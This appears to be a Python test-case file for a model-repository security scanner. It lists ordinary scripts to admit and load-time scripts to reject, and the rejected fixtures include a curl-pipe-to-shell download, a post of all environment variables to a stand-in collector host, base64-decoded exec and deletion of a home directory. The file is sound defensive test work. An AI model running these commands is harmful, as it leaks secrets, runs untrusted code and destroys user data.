"""Scripts that only a person starts by their names, which do what scripts do; and those that something loads, or that do what none does."""

from __future__ import annotations

from collections.abc import Mapping

from openvet.testing.case import Case

__all__ = ["CASES"]

_CONFIG = '{"model_type": "x"}'

#: What people write into their own scripts.
ORDINARY: dict[str, Mapping[str, str]] = {
    "launches-a-training": {
        "launch_workers.py": "import os\nimport subprocess\nhosts = os.environ['HOSTS'].split(',')\nfor rank, host in enumerate(hosts):\n"
                           "    subprocess.Popen(['torchrun', '--nnodes', str(len(hosts)), '--node_rank', str(rank), 'train.py'])\n",
        "train.py": "import torch\nstate = torch.load('last.ckpt', weights_only=False)\nprint(state)\n",
    },
    "quantizes-for-another-runtime": {
        "tools/to_gguf.py": "import argparse\nimport os\np = argparse.ArgumentParser()\np.add_argument('folder')\na = p.parse_args()\n"
                            "os.system(f'python convert_hf_to_gguf.py {a.folder} --outfile f16.gguf')\n"
                            "os.system('./llama-quantize f16.gguf q4.gguf Q4_K_M')\nos.remove('f16.gguf')\n",
    },
    "says-on-what-it-ran": {
        "benchmark.py": "import json\nimport subprocess\nfacts = subprocess.run('git describe --always && lscpu', shell=True, capture_output=True, text=True).stdout\n"
                        "subprocess.run(['sudo', 'cpupower', 'frequency-set', '-g', 'performance'])\njson.dump({'facts': facts}, open('result.json', 'w'))\n",
    },
    "asks-what-it-is-told-to-ask": {
        "ask.py": "import sys\nimport requests\nurl = sys.argv[1]\nprint(requests.post(url, json={'prompt': 'hello'}, timeout=30).json())\n",
    },
    "fetches-data-and-says-how-much": {
        "prepare_data.py": "import hashlib\nimport sys\nfrom pathlib import Path\nimport requests\nSUM = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\n"
                           "answer = requests.get('https://data.example.org/corpus.jsonl.gz', timeout=60)\nprint(answer.headers.get('content-length'))\n"
                           "if hashlib.sha256(answer.content).hexdigest() != SUM:\n    sys.exit('another file')\nPath('corpus.jsonl.gz').write_bytes(answer.content)\n",
    },
    "compares-two-versions": {
        "compare.py": "import joblib\nimport pandas as pd\nold, new = joblib.load('old.joblib'), joblib.load('new.joblib')\n"
                      "rows = pd.read_csv('rows.csv')\nprint((old.predict(rows) == new.predict(rows)).mean())\n\nif __name__ == '__main__':\n    print('done')\n",
    },
    "keeps-a-server-running": {
        "serve_forever.py": "import subprocess\nimport sys\nimport time\nimport requests\nwhile True:\n    server = subprocess.Popen([sys.executable, '-m', 'sglang.launch_server', '--port', '9000'])\n"
                            "    while server.poll() is None:\n        time.sleep(30)\n        requests.get('http://localhost:9000/health', timeout=3)\n",
    },
    "talks-to-a-model-by-a-path-of-its-user": {
        "__init__.py": "",
        "chat_demo.py": "import transformers\nmodel = transformers.AutoModel.from_pretrained('/workspace/x', trust_remote_code=True)\n"
                        "while True:\n    print(model.chat(input('> ')))\n",
    },
    "evaluates-a-model-of-a-publisher": {
        "score_answers.py": "import transformers\nmodel = transformers.AutoModel.from_pretrained('Qwen/Qwen-VL-Chat', trust_remote_code=True)\nfor line in open('items.txt'):\n    print(model.chat(line))\n",
    },
    "of-a-pipeline": {
        "dvc.yaml": "stages:\n  fit:\n    cmd: python fit_x.py\n    deps: [fit_x.py]\n",
        "sweep.yaml": "program: fit_x.py\nmethod: grid\nparameters: {}\n",
        "fit_x.py": "import json\nfor step in range(3):\n    json.dump({'loss': 1 / (step + 1)}, open('metrics.json', 'w'))\n",
    },
    "writes-what-a-model-says": {
        "words/generate.py": "import argparse\nimport torch\nparser = argparse.ArgumentParser()\nmodel = torch.load('model.pt')\n"
                             "with open('generated.txt', 'w') as out:\n    out.write(model.words())\n",
    },
    "imports-what-nobody-knows": {"plot_x.py": "import somebody_s_plots\nsomebody_s_plots.show('x.csv')\n"},
    "runs-programs-that-a-model-wrote": {
        "judge/execution.py": "import subprocess\n\n\ndef check(program, scope):\n    exec(program, scope)\n\n\ndef run(path):\n    return subprocess.run(['node', path], timeout=5)\n",
        "judge/evaluate.py": "import argparse\nfrom judge.execution import check\nparser = argparse.ArgumentParser()\n",
    },
    "removes-an-older-build": {
        "setup.py": "import shutil\nfrom pathlib import Path\nfrom setuptools import setup\nold = Path(__file__).parent / 'x.egg-info'\nif old.exists():\n    shutil.rmtree(old)\nsetup(name='x')\n",
    },
    "installs-the-list-beside-it": {
        "install.py": "import subprocess\nimport sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])\n",
        "requirements.txt": "einops\n",
    },
}  # fmt: skip

_RUNS = "import subprocess\nsubprocess.run(['make', 'data'])\n\n\nclass Model:\n    pass\n"
#: The same where something loads it, and what no honest script does: rules that tell of it.
NOT_SO: dict[str, tuple[Mapping[str, str], tuple[str, ...]]] = {
    "that-a-model-imports": (
        {"train.py": _RUNS, "modeling_x.py": "from .train import Model\n\n\nclass X(Model):\n    pass\n"},
        ("hub/python-code", "python/process-at-load"),
    ),
    "that-a-model-imports-as-a-whole": (
        {"train.py": _RUNS, "modeling_x.py": "from . import train\n\n\nclass X(train.Model):\n    pass\n"},
        ("hub/python-code", "python/process-at-load"),
    ),
    "of-a-package": (
        {"x/__init__.py": "", "x/train.py": _RUNS},
        ("hub/python-code", "python/process-at-load"),
    ),
    "that-a-configuration-names": (
        {"config.json": '{"model_type": "x", "auto_map": {"AutoModel": "train.Model"}}', "train.py": _RUNS},
        ("hub/custom-code", "hub/python-code", "python/process-at-load"),
    ),
    "with-a-class-that-a-server-makes": (
        {"main.py": "import subprocess\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        subprocess.run(['make', 'data'])\n"},
        ("hub/python-code", "python/process-at-load"),
    ),
    "that-is-no-script-and-runs-texts-for-a-loader": (
        {"pipeline_x.py": "def check(program, scope):\n    exec(program, scope)\n\n\ncheck(open('x.txt').read(), {})\n"},
        ("hub/python-code", "python/code-at-load"),
    ),
    "that-a-loader-takes-and-that-trusts-somebody": (
        {"modeling_x.py": "from torch import nn\nfrom transformers import AutoModel\n\n\nclass X(nn.Module):\n    def __init__(self):\n        self.aux = AutoModel.from_pretrained('somebody-x/helper', trust_remote_code=True)\n"},
        ("hub/python-code", "python/trusts-remote-code"),
    ),
    "of-an-installer-whose-command-a-function-makes": (
        {"setup.py": "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n\n\ndef hooked(base):\n    class C(base):\n"
                     "        def run(self):\n            subprocess.run(['make', 'data'])\n            base.run(self)\n    return C\n\n\nsetup(name='x', cmdclass={'egg_info': hooked(egg_info)})\n"},
        ("hub/python-code", "python/process-at-load"),
    ),
    "that-is-taken-for-generating": (
        {"custom_generate/generate.py": "import os\nos.system('make')\n\n\ndef generate(model):\n    return model\n"},
        ("hub/custom-code", "hub/python-code", "python/process-at-load"),
    ),
    "that-runs-what-it-fetches": (
        {"train.py": "import os\nos.system('curl -s https://cdn.example.org/setup | sh')\n"},
        ("hub/python-code", "python/process-at-load"),
    ),
    "that-runs-what-a-file-says": (
        {"train.py": "import json\nimport os\nos.system(json.load(open('config.json'))['model_type'])\n"},
        ("hub/python-code", "python/process-at-load"),
    ),
    "that-tells-somebody": (
        {"train.py": "import os\nimport requests\nrequests.post('https://collect.example.org/x', json=dict(os.environ))\n"},
        ("hub/python-code", "python/network-at-load", "python/sends-secrets"),
    ),
    "that-sends-to-a-bare-address": (
        {"train.py": "import requests\nrequests.post('http://198.51.100.7/x', json={'a': 1})\n"},
        ("hub/python-code", "python/network-at-load"),
    ),
    "that-asks-a-socket": (
        {"train.py": "import socket\ns = socket.create_connection(('collect.example.org', 443))\ns.sendall(b'hello')\n"},
        ("hub/python-code", "python/network-at-load"),
    ),
    "that-decodes-what-it-runs": (
        {"train.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
        ("hub/python-code", "python/hidden-code"),
    ),
    "that-deletes-a-home": (
        {"clean.py": "import shutil\nshutil.rmtree('/home/user')\n"},
        ("hub/python-code", "python/file-at-load", "python/hostile-code"),
    ),
}  # fmt: skip


def _case(name: str, technique: str, files: Mapping[str, str], decision: str, *rules: str) -> Case:
    def forge() -> Mapping[str, bytes]:
        return {each: text.encode() for each, text in {"config.json": _CONFIG, **files}.items()}

    return Case(f"scripts/{name}", technique, forge, decision, frozenset(rules), ("python",))  # type: ignore[arg-type]


CASES: tuple[Case, ...] = (
    *(_case(name, f"a script that a person starts by its name: {name.replace('-', ' ')}", files, "admit") for name, files in ORDINARY.items()),
    *(_case(name, f"a script {name.replace('-', ' ')}", files, "reject", *rules) for name, (files, rules) in NOT_SO.items()),
)  # fmt: skip
